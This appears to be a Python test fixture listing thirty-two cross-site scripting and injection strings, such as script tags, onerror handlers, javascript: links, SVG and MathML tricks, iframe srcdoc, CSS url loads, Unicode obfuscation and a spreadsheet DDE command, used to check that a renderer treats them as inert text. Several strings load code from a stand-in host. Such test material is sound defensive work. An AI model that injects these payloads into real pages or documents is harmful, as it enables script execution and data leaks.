"""Thirty-two pieces of text that would run a script in the page, or make the browser ask a foreign host, if they were anything but text."""

from __future__ import annotations

HOST = "http://foreign.invalid"
RUN = "window.__hit=(window.__hit||0)+1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{HOST}/a.js'></script>",
    "script in capitals, unclosed": f"<ScRiPt>{RUN}//",
    "script inside a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "picture that fails": f"<img src=x onerror={RUN}>",
    "picture from elsewhere": f"<img src={HOST}/b.png srcset='{HOST}/c.png 2x'>",
    "handler on svg": f"<svg onload={RUN}><circle r=9></svg>",
    "script in svg": f"<svg><script>{RUN}</script><image href={HOST}/d.png /></svg>",
    "svg animates a link": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>go</text></a></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "javascript link": f"<a href='javascript:{RUN}'>go</a>",
    "javascript link, entities": f"<a href='&#106;avascript&colon;{RUN}'>go</a>",
    "javascript link in Markdown": f"[go](javascript:{RUN})",
    "picture in Markdown": f"![p]({HOST}/e.png)",
    "reference in Markdown": f"![p][ref]\n\n[ref]: {HOST}/f.png",
    "autolink": f"<{HOST}/g> and www.foreign.invalid/h",
    "data page": "<object data='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg=='></object>",
    "frame": f"<iframe src='{HOST}/i'></iframe>",
    "frame with its own page": "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={HOST}/j'>",
    "base": f"<base href='{HOST}/'>",
    "style sheet": f"<link rel=stylesheet href='{HOST}/k.css'><style>@import '{HOST}/l.css';</style>",
    "style with an address": f"<div style='background:url({HOST}/m.png);width:9px'>x</div>",
    "form": f"<form action='{HOST}/n'><input autofocus onfocus={RUN}><button>Send</button></form>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "film and sound": f"<video src='{HOST}/o.mp4' poster='{HOST}/p.png' autoplay onerror={RUN}></video><audio src='{HOST}/q.mp3' autoplay></audio>",
    "out of an attribute": f"\"'><img src=x onerror={RUN}><input value=\"",
    "out of a comment and a text area": f"--></textarea></title></style><img src=x onerror={RUN}><!--",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "templates, formulas, diagrams": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} $$\\href{{javascript:{RUN}}}{{x}}$$ ```mermaid\ngraph TD; A-->B; click A \"javascript:{RUN}\"\n```",
    "spreadsheet": f"=HYPERLINK(\"{HOST}/r\",\"x\") =cmd|' /C calc'!A0 +1+1 @SUM(1)",
    "turned round and unseen": f"\u202e>gmi<\u202c \u200b<\u200dimg\u00ad src=x onerror={RUN}> \ufeff<img\u00a0src=x\u2028onerror={RUN}>",
}


def one_line(payload: str) -> str:
    """The same where no line may end."""
    return " ".join(payload.split())


def file_name(n: int, payload: str) -> str:
    """A file's name with as much of it as a disk takes."""
    return f"{n:02} {one_line(payload).replace('/', ':')}".encode()[:180].decode(errors="ignore") + ".txt"
